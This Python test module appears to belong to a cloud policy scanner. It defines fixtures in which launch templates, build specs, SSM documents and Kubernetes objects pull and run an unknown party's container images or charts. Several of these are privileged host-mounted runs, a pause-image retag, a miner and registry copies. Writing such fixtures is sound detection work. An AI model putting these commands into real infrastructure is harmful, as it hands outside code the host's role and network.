"""Attacks that run or install images and charts of strangers by commands, in scripts of every kind (2026-11-28)."""

import base64
import json

from ..blind import IMAGE, KEY, ME, TAGS, aws, az, crd, k8s, meta, workload
from ..harness import Given
from . import Attack

ESC = ("FJ-ESC-120",)
HARM = "the stranger's program runs with the role and in the network of the machine"
BUILD = {
    "name": "app", "serviceRole": f"arn:aws:iam::{ME}:role/build", "encryptionKey": KEY, "tags": TAGS,
    "artifacts": {"type": "CODEPIPELINE"}, "vpcConfig": {"vpcId": "vpc-1", "subnets": ["s"], "securityGroupIds": ["g"]},
    "environment": {"computeType": "BUILD_GENERAL1_SMALL", "type": "LINUX_CONTAINER",
                    "image": "aws/codebuild/amazonlinux-x86_64-standard:5.0"},
}  # fmt: skip


def _machine(script: str) -> tuple[Given, ...]:
    """Returns a template of machines that run a script when they start."""
    return (aws("ec2/LaunchTemplate", {
        "name": "worker", "userData": base64.b64encode(script.encode()).decode(),
        "metadataOptions": {"httpTokens": "required", "httpEndpoint": "enabled", "httpPutResponseHopLimit": 1},
        "tagSpecifications": [{"resourceType": kind, "tags": TAGS} for kind in ("instance", "volume")],
        "tags": TAGS}),)  # fmt: skip


def _build(*commands: str) -> tuple[Given, ...]:
    return (aws("codebuild/Project", {**BUILD, "source": {"type": "CODEPIPELINE", "buildspec": json.dumps({
        "version": "0.2", "phases": {"build": {"commands": list(commands)}}})}}),)  # fmt: skip


def _program(*command: str) -> tuple[Given, ...]:
    return (workload("apps/v1:Deployment", {"command": list(command)}, replicas=1),)


UNIT = """#cloud-config
write_files:
- path: /etc/systemd/system/agent.service
  content: |
    [Service]
    ExecStart=/usr/bin/podman run --rm --net=host quay.io/someone/agent:latest
runcmd:
- [systemctl, enable, --now, agent]
"""

ATTACKS = (
    Attack("a machine starts a container of a stranger by Docker", ESC,
        _machine("#!/bin/sh\ndocker run -d --restart=always --privileged -v /:/host someone/agent:latest\n"),
        "critical", HARM),
    Attack("a machine starts a container of a stranger by a unit of Podman", ESC, _machine(UNIT), "critical", HARM),
    Attack("a machine pulls an image of a stranger into containerd", ESC,
        _machine("#!/bin/bash\nctr -n k8s.io images pull docker.io/someone/pause:3.10\n"
                 "ctr -n k8s.io images tag docker.io/someone/pause:3.10 registry.k8s.io/pause:3.10\n"),
        "critical", "every pod of the node starts with the stranger's image"),
    Attack("a machine pulls an image of a stranger by crictl and nerdctl", ESC,
        _machine("#!/bin/bash\ncrictl pull ghcr.io/someone/csi@sha256:" + "b" * 64 + "\n"
                 "nerdctl -n k8s.io run -d ghcr.io/someone/csi\n"), "critical", HARM),
    Attack("a build copies an image of a stranger into the bank's registry", ESC, _build(
        f"skopeo copy --all docker://docker.io/someone/base:1 docker://{IMAGE.partition('@')[0]}:1"),
        "critical", "every image that is built on it is the stranger's"),
    Attack("a build copies an image of a stranger by crane", ESC, _build(
        "crane copy ttl.sh/someone-base:1h 123456789012.dkr.ecr.me-central-1.amazonaws.com/base:1"), "critical", HARM),
    Attack("a build runs in a container of a stranger by its steps", ESC, _build(
        "set -e", "docker run --rm -v $PWD:/src -e TOKEN someone/scanner scan /src"), "critical", HARM),
    Attack("a machine pulls a chart of a stranger from a registry", ESC,
        _machine("#!/bin/bash\nhelm pull oci://ghcr.io/someone/charts/agent --version 1.0.0\n"
                 "helm template agent-1.0.0.tgz > /var/lib/rancher/k3s/server/manifests/agent.yaml\n"),
        "critical", "the cluster creates what the stranger wrote"),
    Attack("a build adds a repository of charts of a stranger", ESC, _build(
        "helm repo add tools https://someone.github.io/charts", "helm pull tools/agent"), "critical", HARM),
    Attack("a job copies an image of a stranger by its script", ESC, (k8s("core/v1:ConfigMap", {
        "metadata": meta(), "data": {"mirror.sh": "#!/bin/sh\nfor i in a b; do\n  skopeo copy "
                                     "docker://docker.io/someone/$i docker://registry.example.ae/base/$i\ndone\n"}}),),
        "critical", HARM),
    Attack("a container starts one of a stranger beside it", ESC,
        _program("sh", "-c", "docker --host tcp://docker:2376 run --gpus all docker.io/someone/miner"),
        "critical", HARM),
    Attack("a workflow starts a container of a stranger", ESC, (crd("argoproj.io/v1alpha1:WorkflowTemplate", {
        "entrypoint": "x", "templates": [{"name": "x", "securityContext": {"runAsNonRoot": True, "runAsUser": 10001},
            "script": {"image": IMAGE, "command": ["sh"], "source": "buildah from --name base someone/base:1"}}]}),),
        "critical", HARM),
    Attack("a machine of Azure starts a container of a stranger", ESC, (az("compute:VirtualMachineExtension", {
        "resourceGroupName": "rg-platform", "vmName": "vm", "vmExtensionName": "start", "location": "uaenorth",
        "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript", "typeHandlerVersion": "2.1", "tags": TAGS,
        "protectedSettings": {"commandToExecute": "docker run -d --network host someone/agent"}}),),
        "critical", HARM),
    Attack("a document of Systems Manager starts a container of a stranger", ESC, (aws("ssm/Document", {
        "name": "agent", "documentType": "Command", "documentFormat": "JSON", "tags": TAGS, "content": json.dumps({
            "schemaVersion": "2.2", "mainSteps": [{"action": "aws:runShellScript", "name": "run", "inputs": {
                "runCommand": ["podman pull docker.io/someone/agent", "podman run -d docker.io/someone/agent"]}}]})}),),
        "critical", HARM),
    Attack("a component of images bakes in an image of a stranger", ESC, (aws("imagebuilder/Component", {
        "name": "agent", "platform": "Linux", "version": "1.0.0", "kmsKeyId": KEY, "tags": TAGS, "data": json.dumps({
            "schemaVersion": "1.0", "phases": [{"name": "build", "steps": [{
                "name": "pull", "action": "ExecuteBash", "inputs": {"commands": [
                    "docker pull someone/agent:1", "docker save someone/agent:1 -o /opt/agent.tar"]}}]}]})}),),
        "critical", "every machine of the image has the stranger's program"),
    Attack("a machine starts a compose file with an image of a stranger", ESC, _machine(
        "#!/bin/bash\ncat > /opt/compose.yaml <<EOT\nservices:\n  agent:\n    image: someone/agent:latest\n"
        "    network_mode: host\nEOT\ndocker compose -f /opt/compose.yaml up -d\n"), "critical", HARM),
)  # fmt: skip
